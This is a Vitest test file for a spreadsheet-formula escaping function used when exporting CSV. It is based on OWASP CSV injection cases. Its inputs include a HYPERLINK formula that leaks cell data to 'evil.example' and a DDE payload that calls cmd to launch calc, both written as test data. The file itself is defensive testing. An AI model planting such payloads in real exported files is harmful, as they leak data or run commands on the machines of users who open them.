// OWASP CSV injection cases (https://owasp.org/www-community/attacks/CSV_Injection) and the
// decisions documented in formula-safe.ts.
import { describe, expect, it } from 'vitest'
import { formulaSafe, unFormulaSafe } from '../../../electron/main/export/formula-safe'

describe('formulaSafe', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`],
    ['=1+1', "'=1+1"],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['=1+1\nx', "'=1+1\nx"],
    ['\t=', "'\t="],
    ['\r=1', "'\r=1"],
    ['\n=1', "'\n=1"],
    ['\0=1', "'\0=1"]
  ])('quotes %j', (input, expected) => {
    expect(formulaSafe(input)).toBe(expected)
  })

  it('looks past leading spaces, which some programs trim before reading a formula', () => {
    expect(formulaSafe('  =1+1')).toBe("'  =1+1")
    expect(formulaSafe('\u00a0@SUM(A1)')).toBe("'\u00a0@SUM(A1)")
  })

  it('quotes "-" alone, negative numbers and phone numbers too: every exported cell is text', () => {
    expect(formulaSafe('-')).toBe("'-")
    expect(formulaSafe('-5')).toBe("'-5")
    expect(formulaSafe('+7 916 123-45-67')).toBe("'+7 916 123-45-67")
  })

  it('leaves harmless text alone, including a leading separator (the CSV writer quotes every field)', () => {
    for (const text of ['', 'Anna', 'a=b', 'x-1', 'anna@example.com', ',=1+1', ';=1+1', '"=1+1"', '1500.00', "'quoted"]) {
      expect(formulaSafe(text)).toBe(text)
    }
  })

  it('adds one more quote to text that already starts with a quote before a trigger', () => {
    expect(formulaSafe("'=1")).toBe("''=1")
  })

  it('is undone exactly by unFormulaSafe, for any text', () => {
    const samples = ['=1', "'=1", "''=1", "'", "'a", '-', ' -x', 'plain', '', "'' +", '@', '\t', "'\t"]
    for (const text of samples) expect(unFormulaSafe(formulaSafe(text))).toBe(text)
    let seed = 7
    const alphabet = ["'", '=', '+', '-', '@', ' ', '\t', 'a', '1', '\n', ',']
    for (let i = 0; i < 2000; i++) {
      let text = ''
      const length = i % 6
      for (let j = 0; j < length; j++) {
        seed = (seed * 1103515245 + 12345) % 2147483648
        text += alphabet[seed % alphabet.length]
      }
      const safe = formulaSafe(text)
      expect(unFormulaSafe(safe)).toBe(text)
      // Whatever comes out never starts (after spaces) with a trigger.
      expect(/^[ \u00a0]*[=+\-@\t\r\n\0]/.test(safe)).toBe(false)
    }
  })
})
